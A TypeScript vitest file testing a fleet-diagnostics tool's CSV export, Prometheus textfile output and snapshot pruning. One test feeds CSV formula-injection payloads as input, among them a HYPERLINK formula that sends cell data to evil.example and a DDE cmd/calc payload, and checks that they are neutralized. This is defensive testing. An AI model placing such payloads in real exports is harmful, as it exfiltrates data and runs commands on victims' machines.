import { describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, existsSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { appendCsv, CSV_COLUMNS, csvRow, errorRows, reportRows } from '../../../src/watch/csv.js';
import { promFailureText, promText, writeProm } from '../../../src/watch/prom.js';
import { MARKER, markSnapshot, pruneSnapshots, watchIdentity } from '../../../src/watch/retention.js';
import { down, group, host, report } from '../diff/reports.js';

const r = report([
  host('h1', [group('pool00', 10)], { sockets: { ESTABLISHED: 3, LISTEN: 2, TIME_WAIT: 1, NEW_SYN_RECV: 4 }, threads: 7 }),
  host('h2', [group('leak00', 500, { leaking: true, verdict: 'leaking' })]),
  down('h3', 'ssh: connect to host h3 port 22: Connection refused, "really"'),
], 'run-1', '2025-01-01T00:00:00.000Z');

describe('CSV series', () => {
  it('has one column per socket state, and marks unread hosts as error rows', () => {
    expect(CSV_COLUMNS.slice(0, 5)).toEqual(['timestamp', 'host', 'status', 'goroutines', 'threads']);
    const rows = reportRows(r).map((l) => l.split(','));
    const col = (row: string[], name: string) => row[CSV_COLUMNS.indexOf(name)];
    expect(col(rows[0], 'goroutines')).toBe('10');
    expect(col(rows[0], 'threads')).toBe('7');
    expect(col(rows[0], 'ESTABLISHED')).toBe('3');
    expect(col(rows[0], 'CLOSE_WAIT')).toBe('0');
    expect(col(rows[0], 'OTHER')).toBe('4');
    expect(col(rows[1], 'leaking_groups')).toBe('1');
    expect(col(rows[1], 'verdict')).toBe('leaking');
    expect(reportRows(r)[2]).toBe(`2025-01-01T00:00:00.000Z,h3,error,,,${','.repeat(11)},unknown,,run-1,"unreachable: ssh: connect to host h3 port 22: Connection refused, ""really"""`);
  });

  it('neutralizes cells a spreadsheet would run as a formula (OWASP), keeping numbers numbers (issue 21)', () => {
    /** The cells of one CSV row, quotes undone. */
    const cells = (row: string): string[] => [...row.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((m) => (m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]));
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3+cmd|x', '\t=1+1', '\r=1+1'];
    for (const f of formulas) {
      const row = csvRow({ timestamp: 't', host: f, ok: false, goroutines: null, threads: null, sockets: null, verdict: 'unknown', leakingGroups: null, runId: 'r', error: `x${f}` });
      const c = cells(row);
      expect(c).toHaveLength(CSV_COLUMNS.length);
      expect(c[1], row).toBe(`'${f}`);
    }
    const error = cells(csvRow({ timestamp: 't', host: 'h', ok: false, goroutines: null, threads: null, sockets: null, verdict: 'unknown', leakingGroups: null, runId: 'r', error: '=1+1' }));
    expect(error.at(-1)).toBe("'=1+1");
    // Numbers stay numbers, a negative one too; plain text is left alone.
    const plain = csvRow({ timestamp: '2025-01-01T00:00:00.000Z', host: 'web-1', ok: true, goroutines: -5, threads: 0, sockets: { ESTABLISHED: 2 }, verdict: 'healthy', leakingGroups: 0, runId: 'run-1', error: null });
    expect(cells(plain).slice(0, 6)).toEqual(['2025-01-01T00:00:00.000Z', 'web-1', 'ok', '-5', '0', '2']);
  });

  it('appends, writing the header once, and refuses a file with other columns', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'fd-csv-'));
    const f = path.join(dir, 'sub', 'series.csv');
    await appendCsv(f, []);
    await appendCsv(f, reportRows(r));
    await appendCsv(f, errorRows(['h1', 'h2'], '2025-01-01T00:01:00.000Z', 'run failed: boom'));
    const lines = readFileSync(f, 'utf8').trimEnd().split('\n');
    expect(lines[0]).toBe(CSV_COLUMNS.join(','));
    expect(lines).toHaveLength(6);
    expect(lines[5]).toMatch(/^2025-01-01T00:01:00\.000Z,h2,error,.*,run failed: boom$/);
    writeFileSync(path.join(dir, 'other.csv'), 'time,count\n1,2\n');
    await expect(appendCsv(path.join(dir, 'other.csv'), [])).rejects.toThrow(/other columns/);
  });
});

describe('Prometheus textfile', () => {
  it('exposes the metrics per host; hosts not collected only as collect_success 0', () => {
    const text = promText(r);
    expect(text).toContain('# TYPE fleet_diag_goroutines gauge');
    expect(text).toContain('fleet_diag_goroutines{host="h1"} 10');
    expect(text).toContain('fleet_diag_threads{host="h1"} 7');
    expect(text).toContain('fleet_diag_sockets{host="h1",state="ESTABLISHED"} 3');
    expect(text).toContain('fleet_diag_leaking_groups{host="h2"} 1');
    expect(text).toContain('fleet_diag_leaking_groups{host="h1"} 0');
    expect(text).toContain('fleet_diag_collect_success{host="h1"} 1');
    expect(text).toContain('fleet_diag_collect_success{host="h3"} 0');
    expect(text).not.toMatch(/fleet_diag_goroutines\{host="h3"\}/);
    expect(text).toMatch(/^fleet_diag_last_run_timestamp_seconds 1735689600$/m);
    // Every sample line parses: name{labels} value.
    for (const l of text.trim().split('\n').filter((x) => !x.startsWith('#'))) expect(l).toMatch(/^[a-z_]+(\{[a-z]+="[^"]*"(,[a-z]+="[^"]*")*\})? -?[\d.e+]+$/);
  });

  it('escapes label values', () => {
    expect(promText(report([host('we"ird\\h', [])]))).toContain('fleet_diag_goroutines{host="we\\"ird\\\\h"} 0');
  });

  it('writes atomically (no temp file left) and says every host failed when a run failed', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'fd-prom-'));
    await writeProm(path.join(dir, 'fleet.prom'), promText(r));
    await writeProm(path.join(dir, 'fleet.prom'), promFailureText(['h1', 'h2'], new Date(0)));
    expect(readdirSync(dir)).toEqual(['fleet.prom']);
    expect(readFileSync(path.join(dir, 'fleet.prom'), 'utf8')).toContain('fleet_diag_collect_success{host="h2"} 0');
  });
});

describe('snapshot retention', () => {
  it('deletes only marked snapshots older than the window, never the one kept', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'fd-ret-'));
    const mk = async (name: string, at: Date | null) => {
      mkdirSync(path.join(dir, name));
      if (at) await markSnapshot(path.join(dir, name), 'watch-x', 'me', at);
    };
    const now = new Date('2025-01-10T00:00:00Z');
    await mk('old', new Date('2025-01-01T00:00:00Z'));
    await mk('recent', new Date('2025-01-09T00:00:00Z'));
    await mk('not-ours', null);
    await mk('old-but-current', new Date('2025-01-01T00:00:00Z'));
    writeFileSync(path.join(dir, 'alert-state.json'), '{}');
    const removed = await pruneSnapshots(dir, 7 * 86_400_000, 'me', now, [path.join(dir, 'old-but-current')]);
    expect(removed).toEqual([path.join(dir, 'old')]);
    expect(readdirSync(dir).sort()).toEqual(['alert-state.json', 'not-ours', 'old-but-current', 'recent']);
    expect(await pruneSnapshots(path.join(dir, 'missing'), 1, 'me', now)).toEqual([]);
    expect(existsSync(path.join(dir, 'recent'))).toBe(true);
  });

  it("never deletes another watch's snapshots, nor one whose marker says nothing (issue 21)", async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'fd-ret-'));
    const old = new Date('2025-01-01T00:00:00Z');
    const now = new Date('2025-01-10T00:00:00Z');
    for (const name of ['mine', 'theirs', 'empty-marker', 'no-time']) mkdirSync(path.join(dir, name));
    await markSnapshot(path.join(dir, 'mine'), 's1', watchIdentity('/inv/prod.ini', 'web'), old);
    await markSnapshot(path.join(dir, 'theirs'), 's2', watchIdentity('/inv/prod.ini', 'db'), old);
    writeFileSync(path.join(dir, 'empty-marker', MARKER), '{}\n');
    writeFileSync(path.join(dir, 'no-time', MARKER), `${JSON.stringify({ watch: watchIdentity('/inv/prod.ini', 'web') })}\n`);
    const removed = await pruneSnapshots(dir, 86_400_000, watchIdentity('/inv/prod.ini', 'web'), now);
    expect(removed).toEqual([path.join(dir, 'mine')]);
    expect(readdirSync(dir).sort()).toEqual(['empty-marker', 'no-time', 'theirs']);
  });
});
